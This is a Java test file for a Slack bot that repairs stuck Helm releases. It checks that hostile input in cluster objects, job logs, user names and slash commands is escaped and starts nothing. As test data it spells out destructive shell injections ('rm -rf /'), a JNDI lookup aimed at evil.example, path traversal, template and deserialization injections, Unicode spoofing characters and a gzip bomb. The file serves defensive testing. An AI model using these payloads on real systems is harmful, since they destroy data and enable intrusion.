package dev.helmstuck.incident;

import static dev.helmstuck.incident.Incident.NAMESPACE;
import static dev.helmstuck.incident.Incident.STUCK;
import static dev.helmstuck.simulator.World.ALICE;
import static dev.helmstuck.simulator.World.BOB;
import static dev.helmstuck.simulator.World.CAROL;
import static dev.helmstuck.simulator.World.CHANNEL;
import static org.assertj.core.api.Assertions.assertThat;

import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.util.Base64;
import java.util.List;
import java.util.function.UnaryOperator;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import java.util.stream.Stream;

import com.fasterxml.jackson.databind.node.ObjectNode;
import com.fasterxml.jackson.databind.node.TextNode;
import dev.helmstuck.incident.Incident.Mode;
import dev.helmstuck.remediation.Outcome;
import dev.helmstuck.simulator.World;
import dev.helmstuck.simulator.kubernetes.Kind;
import dev.helmstuck.simulator.slack.Member;
import dev.helmstuck.simulator.slack.Message;
import dev.helmstuck.simulator.slack.SlashReply;
import dev.helmstuck.slack.Harmless;
import dev.helmstuck.testing.cluster.Payload;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * Everything that comes from outside means harm, and the bot runs as it does in production. What counts is what the workspace got:
 * nobody is mentioned, no link is there but ours, no character hides or turns anything, and nothing is deleted for it.
 */
class HostileTextTest {
    private static final String HARM = "<!channel> <@" + CAROL + "> <!subteam^S0SRE> <https://evil.example|GitLab> ```x``` `y` *z*"
            + " :white_check_mark: \u202Egnp.exe\u202C \u2066iso\u2069 z\u200Be\u2060r\uFEFFo \u0007\u001B[31m &lt;!here&gt;\n> quoted\r\n";
    /** A moment is always ours; else only those who asked, GitLab's pages and threads of this workspace. */
    private static final Pattern LIVE = Pattern
            .compile("<@U0ALICE>|<(?:http://127\\.0\\.0\\.1:\\d+/|https://acme\\.slack\\.com/)[^|<>\\s]+\\|[^|<>\\n]+>");

    @TempDir
    Path dir;

    @Test
    void hostile_workloads_jobs_labels_and_annotations_are_shown_and_do_no_harm() {
        try (Incident incident = Incident.prepare(dir, Mode.SOCKET)) {
            incident.world.targets(incident.world.targets().replace("^gprd-cny:(upgrade|auto-deploy)$", "^gprd-cny:"));
            ObjectNode deployment = incident.cluster.list(Kind.DEPLOYMENT, NAMESPACE).getFirst();
            change(incident, Kind.DEPLOYMENT, deployment.at("/metadata/name").asText(), HostileTextTest::failing);
            change(incident, Kind.SECRET, STUCK, HostileTextTest::mislabelled);
            incident.world.project().job("gprd-cny:" + HARM).by(HARM).startedAt(incident.clock.instant().minusSeconds(60)).log(HARM);
            incident.go();
            incident.type(ALICE, "gitlab-cny");
            incident.endedUntouched(Outcome.BLOCKED);
            nothingHarms(incident);
            assertThat(shown(incident)).as("it is shown all the same").anyMatch(text -> text.contains("replicaset &lt;!channel&gt;"))
                    .anyMatch(text -> text.contains("gprd-cny:&lt;!channel&gt;")).anyMatch(text -> text.contains("99999999999"));
        }
    }

    @Test
    void hostile_words_of_a_record_and_of_people_do_no_harm_on_the_way_to_a_repair() {
        try (Incident incident = Incident.prepare(dir, Mode.SOCKET)) {
            incident.slack().changeMember(Member.person(BOB, "bob", HARM));
            incident.world.project().jobs().getFirst().by(HARM).log(HARM);
            String inJson = new TextNode(HARM).toString();
            incident.record(STUCK, 1234, "pending-upgrade", text -> text.replaceAll("\"(description|appVersion)\":\"[^\"]*\"",
                    "\"$1\":" + Matcher.quoteReplacement(inJson)));
            change(incident, Kind.SECRET, STUCK, object -> {
                object.withObject("/metadata/annotations").put("note", HARM);
                return object;
            });
            incident.go();
            incident.yes(BOB, incident.asked());
            incident.repaired();
            nothingHarms(incident);
        }
    }

    @Test
    void a_record_of_a_whole_mebibyte_is_copied_and_deleted_like_any_other() {
        try (Incident incident = Incident.prepare(dir, Mode.SOCKET)) {
            change(incident, Kind.SECRET, STUCK, object -> {
                String json = Payload.decode(object.at("/data/release").asText());
                byte[] padded = (json + " ".repeat(1024 * 1024 / 4 * 3 - json.getBytes(StandardCharsets.UTF_8).length))
                        .getBytes(StandardCharsets.UTF_8);
                byte[] release = Base64.getEncoder().encode(padded);
                assertThat(release).hasSize(1024 * 1024);
                object.withObject("/data").put("release", Base64.getEncoder().encodeToString(release));
                return object;
            });
            String data = incident.cluster.get(Kind.SECRET, NAMESPACE, STUCK).orElseThrow().path("data").toString();
            incident.go();
            incident.yes(BOB, incident.asked());
            incident.repaired();
            assertThat(incident.backups().getFirst().path("data").toString()).isEqualTo(data);
        }
    }

    @Test
    void a_record_that_is_a_gzip_bomb_blocks() {
        try (Incident incident = Incident.prepare(dir, Mode.SOCKET)) {
            incident.record(STUCK, 1234, "pending-upgrade", text -> text + " ".repeat(65 * 1024 * 1024));
            incident.go();
            incident.type(ALICE, "gitlab-cny");
            incident.endedUntouched(Outcome.BLOCKED);
            assertThat(shown(incident)).anyMatch(text -> text.contains("unzips to more than 64 MiB"));
        }
    }

    @Test
    void a_revision_number_beyond_ours_blocks_for_helm_counts_it() {
        try (Incident incident = Incident.prepare(dir, Mode.SOCKET)) {
            ObjectNode beyond = incident.cluster.get(Kind.SECRET, NAMESPACE, STUCK).orElseThrow();
            beyond.withObject("/metadata").remove(List.of("uid", "resourceVersion", "creationTimestamp", "managedFields"));
            beyond.withObject("/metadata").put("name", "sh.helm.release.v1.gitlab-cny.v99999999999");
            beyond.withObject("/metadata/labels").put("version", "99999999999").put("status", "deployed");
            String json = Payload.decode(beyond.at("/data/release").asText()).replace("\"version\":1234", "\"version\":99999999999");
            beyond.withObject("/data").put("release", Payload.encode(json.replace("\"pending-upgrade\"", "\"deployed\"")));
            var unused = incident.cluster.put(beyond);
            incident.go();
            incident.type(ALICE, "gitlab-cny");
            incident.endedUntouched(Outcome.BLOCKED);
            assertThat(shown(incident)).anyMatch(text -> text.contains("v99999999999") && text.contains("Helm may read"));
        }
    }

    @Test
    void typed_tricks_are_answered_in_words_and_start_nothing() {
        try (Incident incident = Incident.start(dir)) {
            for (String text : tricks().toList()) {
                SlashReply reply = incident.type(ALICE, text);
                assertThat(reply.acked()).as(text).isTrue();
                assertThat(reply.text()).as(text).isNotBlank();
                Harmless.check(reply.text(), reply.blocks(), Pattern.compile("(?!)"));
            }
            assertThat(incident.audit()).isEmpty();
            assertThat(incident.slack().messages(CHANNEL)).isEmpty();
            assertThat(incident.slack().responses()).allMatch(response -> response.text().contains("What you may do here"));
            assertThat(incident.cluster.requests()).isEmpty();
            assertThat(incident.gitlabRequests()).isEmpty();
        }
    }

    private static Stream<String> tricks() {
        return Stream.of("gitlab-cny; rm -rf /", "$(rm -rf /)", "`reboot`gitlab", "gitlab-cny && id", "gitlab-cny|id", "../../gitlab-cny",
                "gitlab-cny/../gitlab-cny", "%2e%2e/gitlab-cny", "${jndi:ldap://evil.example/x}", "{{ .Release.Name }}",
                "!!javax.script.ScriptEngineManager [x]", "*gitlab-cny", "&gitlab-cny", "? gitlab-cny", "- gitlab-cny", "gitlab-cny: {}",
                "gitlab-cny\ncancel gitlab-cny", "cancel\ngitlab-cny\ngitlab-cny", "G\u0130TLAB-CNY", "gitlab\u2013cny",
                "gitlab_cny", "\uFF47itlab-cny", "gitlab-cny\u0301", "\uD83D\uDE00", "gitlab-cny \uD83D\uDE00", "\uD83D",
                "\u201Cgitlab-cny\u201D \u201Cgitlab-cny\u201D", "gitlab\u00A0-\u00A0cny", "<!channel>", "<@U0CAROL> gitlab-cny",
                "<https://evil.example|gitlab-cny>", "```gitlab-cny``` now", ":white_check_mark:", "\u202Eync-baltig", "> gitlab-cny",
                "--help", "help me", "x".repeat(3000), "<".repeat(3000), "gitlab-cny ".repeat(273), "\u201C".repeat(2999) + "x",
                "a\u0000b", "\u001B[31mgitlab-cny\u001B[0m");
    }

    /** A name or a label like that is refused by every API server; what is free text there is not. */
    private static ObjectNode failing(ObjectNode deployment) {
        deployment.withObject("/metadata/annotations").put("harm", HARM);
        deployment.withObject("/status").withArray("conditions").addObject().put("type", "ReplicaFailure").put("status", "True")
                .put("reason", HARM).put("message", "replicaset " + HARM);
        return deployment;
    }

    private static ObjectNode mislabelled(ObjectNode secret) {
        secret.withObject("/metadata/labels").put("status", "x__channel__x").put("version", "99999999999999999999");
        secret.withObject("/metadata/annotations").put("note", HARM);
        return secret;
    }

    private static void change(Incident incident, Kind kind, String name, UnaryOperator<ObjectNode> change) {
        var unused = incident.cluster.change(kind, NAMESPACE, name, change);
    }

    private static List<String> shown(Incident incident) {
        return incident.slack().messages(CHANNEL).stream().flatMap(message -> message.texts().stream()).toList();
    }

    private static void nothingHarms(Incident incident) {
        incident.everyMessageIsProper();
        for (Message message : incident.slack().messages(CHANNEL)) {
            // who may approve is mentioned in the request, by the bot itself
            Pattern live = World.key(message).startsWith("request:") ? Pattern.compile(LIVE.pattern() + "|<!subteam\\^S0SRE>") : LIVE;
            Harmless.check(message.text(), message.blocks(), live);
            message.texts().forEach(text -> Harmless.check(text, message.blocks(), live));
        }
        incident.slack().ephemerals().forEach(each -> Harmless.check(each.text(), each.blocks(), LIVE));
        assertThat(incident.slack().transcript(CHANNEL)).doesNotContain("@carol").doesNotContain("\u202E").doesNotContain("\u0007");
    }
}
